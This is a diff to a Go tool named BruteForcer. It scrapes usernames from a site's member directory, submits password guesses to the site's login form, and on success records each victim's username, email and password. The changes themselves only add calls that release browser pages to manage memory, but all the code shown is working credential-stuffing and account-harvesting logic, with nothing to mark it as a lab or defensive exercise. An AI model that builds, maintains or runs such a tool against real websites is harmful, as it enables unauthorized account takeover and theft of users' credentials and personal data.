@@ -30,6 +30,7 @@ type BruteForcer struct {
 
 // HarvestUsernames scrapes the site's public member directory.
 func (bf *BruteForcer) HarvestUsernames(host string) []string {
+	defer bf.Browser.Release() // the names are copied out of the page
 	page, err := bf.Browser.Get("http://" + host + "/members")
 	if err != nil || !page.OK() {
 		return nil
@@ -81,6 +82,9 @@ func (bf *BruteForcer) Attack(host string) []Credential {
 }
 
 func (bf *BruteForcer) guessAccount(host, user string, cands []string) (Credential, bool) {
+	// Each guess's page is released once read, so the long-lived session
+	// holds at most one page.
+	defer bf.Browser.Release()
 	for _, pw := range cands {
 		vals := url.Values{"login": {user}, "password": {pw}}
 		page, err := bf.Browser.Post("http://"+host+"/login", vals)
@@ -95,6 +99,7 @@ func (bf *BruteForcer) guessAccount(host, user string, cands []string) (Credenti
 			email := scrapeEmail(page)
 			return Credential{Username: user, Email: email, Password: pw}, true
 		}
+		bf.Browser.Release()
 	}
 	return Credential{}, false
 }
